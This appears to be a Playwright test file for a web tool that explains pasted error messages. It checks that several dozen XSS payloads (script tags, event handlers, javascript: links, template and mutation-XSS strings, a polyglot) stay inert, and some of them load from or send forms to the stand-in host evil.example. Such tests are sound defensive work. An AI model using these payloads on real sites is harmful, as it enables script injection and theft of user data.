import { afterAll, beforeAll, expect, it } from '@jest/globals'
import type { BrowserContext, Page } from 'playwright-core'
import { describeInBrowser, paste } from '../support/browser.ts'

interface Payload {
  readonly kind: string
  readonly text: string
  /** What people read of it, where that is not the text as it stands: entities decoded, blanks folded. */
  readonly read?: string
}

/** One way each to have a careless page run a script, load something or hand over its form. */
const payloads: readonly Payload[] = [
  { kind: 'a script', text: '<script>alert(1)</script>' },
  { kind: 'a script in mixed case', text: '<ScRiPt>alert(1)</sCrIpT>' },
  { kind: 'a script from elsewhere', text: '<script/src=//evil.example/x.js></script>' },
  { kind: 'a script within a broken tag', text: '<<script>alert(1)//<</script>' },
  { kind: 'a script behind the end of a script', text: '</script><script>alert(1)</script>' },
  { kind: 'a script behind the end of the text box', text: '</textarea><script>alert(1)</script>' },
  { kind: 'a script behind the end of the title', text: '</title></style><script>alert(1)</script>' },
  { kind: 'a script behind the end of a comment', text: '--><script>alert(1)</script>' },
  { kind: 'a script behind the end of character data', text: ']]><script>alert(1)</script>' },
  { kind: 'an image that fails to load', text: '<img src=x onerror=alert(1)>' },
  { kind: 'an image without blanks', text: '<img/src="x"/onerror=alert(1)//' },
  { kind: 'an image behind the end of a quoted attribute', text: '"><img src=x onerror=alert(1)>' },
  {
    kind: 'an image behind the end of an attribute in single quotes',
    text: "'><img src=x onerror=alert(1)>",
  },
  { kind: 'a drawing', text: '<svg onload=alert(1)>' },
  {
    kind: 'a drawing with a script',
    text: '<svg><script>alert&#40;1)</script>',
    read: '<svg><script>alert(1)</script>',
  },
  {
    kind: 'a drawing that animates a link',
    text: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a>',
  },
  { kind: 'a document in a frame', text: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>' },
  { kind: 'a script address in a frame', text: '<iframe src=javascript:alert(1)></iframe>' },
  { kind: 'an object', text: '<object data="data:text/html,<script>alert(1)</script>"></object>' },
  { kind: 'a field that takes the focus', text: '<input autofocus onfocus=alert(1)>' },
  { kind: 'details that open', text: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { kind: 'a film without a source', text: '<video><source onerror=alert(1)></video>' },
  { kind: 'the body once more', text: '<body onload=alert(1) onpageshow=alert(1)>' },
  {
    kind: 'a style that animates',
    text: '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>x</b>',
  },
  { kind: 'a style from elsewhere', text: '<style>@import "//evil.example/x.css";*{display:none}</style>' },
  { kind: 'another base for all addresses', text: '<base href=//evil.example/>' },
  {
    kind: 'an order to go elsewhere',
    text: '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  },
  {
    kind: 'a form that takes over the rest of the page',
    text: '</form><form action=//evil.example><button>Diagnose</button>',
  },
  { kind: 'a dangling attribute', text: "<img src='https://evil.example/?" },
  { kind: 'attributes for a quoted value', text: '" autofocus onfocus=alert(1) x="y' },
  {
    kind: 'attributes for an unquoted value',
    text: 'x autofocus onfocus=alert(1) style=position:fixed;inset:0',
  },
  {
    kind: 'entities for a script',
    text: '&lt;script&gt;alert(1)&lt;/script&gt;',
    read: '<script>alert(1)</script>',
  },
  {
    kind: 'entities for entities for an image',
    text: '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
    read: '<img src=x onerror=alert(1)>',
  },
  {
    kind: 'numbers for a script',
    text: '&#60;script&#x3E;alert(1)&#0000060;/script&#x0003e;',
    read: '<script>alert(1)</script>',
  },
  {
    kind: 'markup that changes when it is read twice',
    text: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  {
    kind: 'markup that changes with its surroundings',
    text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    read: '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  },
  { kind: 'a link to a script', text: '<a href="javascript:alert(1)" autofocus>x</a>' },
  {
    kind: 'a script address with blanks in it',
    text: '<a href="java&Tab;script&colon;alert(1)">x</a>',
    read: '<a href="java script:alert(1)">x</a>',
  },
  { kind: 'a link in Markdown', text: '[x](javascript:alert(1)) [y](//evil.example) [z][1]' },
  { kind: 'an image in Markdown', text: '![x](https://evil.example/x.png "y")' },
  { kind: 'an address in Markdown', text: '<javascript:alert(1)> <https://evil.example> www.evil.example' },
  {
    kind: 'Markdown of all kinds',
    text: '**x** *y* `z` ~~a~~ # b > c - d 1. e | f \\ g <br> &copy; [h]: /i',
    read: '**x** *y* `z` ~~a~~ # b > c - d 1. e | f \\ g <br> © [h]: /i',
  },
  {
    kind: 'lines of Markdown',
    text: 'x\n\n<script>alert(1)</script>\n\n## y\n\n- z\n\n[1]: javascript:alert(1)',
    read: 'x <script>alert(1)</script> ## y - z [1]: javascript:alert(1)',
  },
  {
    kind: 'code for a template',
    text: "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> #{alert(1)}",
  },
  {
    kind: 'a block for a template',
    text: '{{#with "x" as |y|}}{{lookup y.sub "constructor"}}{{/with}} {{{accountName}}} {{> z}}',
  },
  { kind: 'placeholders of a message', text: "{number} {value, select, other {x}} '{' <b>x</b>" },
  {
    kind: 'signs that look like others',
    text: '＜script＞alert(1)＜/script＞ ‹img src=x onerror=alert(1)› <ſcript>',
  },
  {
    kind: 'signs that nobody sees',
    text: '<scr\u200bipt>alert(1)</scr\u00adipt>\u202e\ufeff',
    read: '<script>alert(1)</script>',
  },
  {
    kind: 'everything at once',
    text: 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  },
]

/** Every element with its attributes, in order; the text that the language switch would send again is left out. */
function elements(page: Page): Promise<readonly string[]> {
  return page.evaluate(`[...document.querySelectorAll('*')].map((element) => {
    const attributes = [...element.attributes].filter(
      ({ name }) => !(name === 'value' && element.matches('input[name=error]')),
    )
    return [element.localName, ...attributes.map(({ name, value }) => name + '=' + value)].join(' ')
  })`)
}

/** What the paste box and its answers ask of the network. */
const OWN_REQUEST =
  /^(?:GET|POST) \/(?:\?lang=en|static\/(?:style\.css|(?:copy|live|menu|select)\.js|icon\.svg))?$/u

/** The list of whatever happens on a page that should not. */
function deedsOn(page: Page, url: string): readonly string[] {
  const deeds: string[] = []
  page.on('dialog', (dialog) => {
    deeds.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('console', (message) => deeds.push(`the console: ${message.text()}`))
  page.on('pageerror', (error) => deeds.push(`an error: ${error.message}`))
  page.on('popup', (popup) => deeds.push(`a window: ${popup.url()}`))
  page.on('frameattached', () => deeds.push('a frame'))
  page.on('request', (request) => {
    const asked = `${request.method()} ${request.url().replace(url, '')}`
    if (!OWN_REQUEST.test(asked)) deeds.push(`a request: ${asked}`)
  })
  return deeds
}

/** Writes to the console what the page's policy has kept from happening. */
const TELL_VIOLATIONS = `addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
  console.error('against the policy: ' + effectiveDirective))`

/** Until the page has been drawn twice: what starts by itself has started. */
async function drawn(page: Page): Promise<void> {
  await page.evaluate('new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))')
}

const inName = (name: string) => `Can't find an exact match for *${name}* in your QuickBooks account`

describeInBrowser('an error text with code in it', (site) => {
  let visit: BrowserContext
  let plainText: readonly string[]
  let plainName: readonly string[]

  beforeAll(async () => {
    visit = await site.visit()
    await visit.addInitScript(TELL_VIOLATIONS)
    const page = await visit.newPage()
    await page.goto('/')
    await paste(page, 'no idea')
    plainText = await elements(page)
    await paste(page, inName('Northwind'))
    plainName = await elements(page)
    await page.close()
  })
  afterAll(() => visit.close())

  it.each(payloads)('stays text, also as the name in a guide: $kind', async ({ text, read = text }) => {
    const page = await visit.newPage()
    const deeds = deedsOn(page, site.url)
    await page.goto('/')

    await paste(page, text)
    await drawn(page)
    expect(await page.locator('textarea').inputValue()).toBe(text)
    // The reader may take it apart, and leave data out; but no element comes up that is not an answer's own.
    const own = new Set([...plainText, ...plainName, 'h4'])
    expect((await elements(page)).filter((element) => !own.has(element))).toEqual([])

    await paste(page, inName(text))
    await drawn(page)
    const captured = page.locator('.verdict dd').filter({ visible: true })
    const told = page.locator('article.guide strong').filter({ visible: true }).first()
    expect(await captured.textContent()).toBe(read)
    expect(await told.textContent()).toBe(read)
    expect(await elements(page)).toEqual(plainName)

    expect(deeds).toEqual([])
    await page.close()
  })

  it.each([
    { policy: 'with its policy', deed: 'the console: against the policy: script-src-attr' },
    { policy: 'without its policy', deed: 'a dialog: 1' },
  ])('would be noticed on a page that let it through, $policy', async ({ policy, deed }) => {
    const page = await visit.newPage()
    const deeds = deedsOn(page, site.url)
    await page.goto('/')
    await page.route('**', async (route) => {
      const response = await route.fetch()
      const headers = response.headers()
      if (policy === 'without its policy') delete headers['content-security-policy']
      await route.fulfill({ response, headers, body: (await response.text()).replaceAll('&lt;', '<') })
    })
    await paste(page, '<img src=/nothing onerror=alert(1)>')
    await drawn(page)
    expect(deeds).toEqual(expect.arrayContaining(['a request: GET /nothing', deed]))
    expect(await elements(page)).not.toEqual(plainText)
    await page.close()
  })

  it.each([
    ['/?lang="><script>alert(1)</script>', '/?lang=x'],
    ['/?example=<svg onload=alert(1)>', '/?example=x'],
    ['/<script>alert(1)</script>', '/x'],
    ['/errors/"><img src=x onerror=alert(1)>', '/errors/x'],
    ['/problems/{{constructor}}', '/problems/x'],
  ])('changes no page by standing in its address: %s', async (address, plain) => {
    const page = await visit.newPage()
    await page.goto(plain)
    const expected = await elements(page)
    await page.goto(address)
    expect(await elements(page)).toEqual(expected)
    await page.close()
  })
})
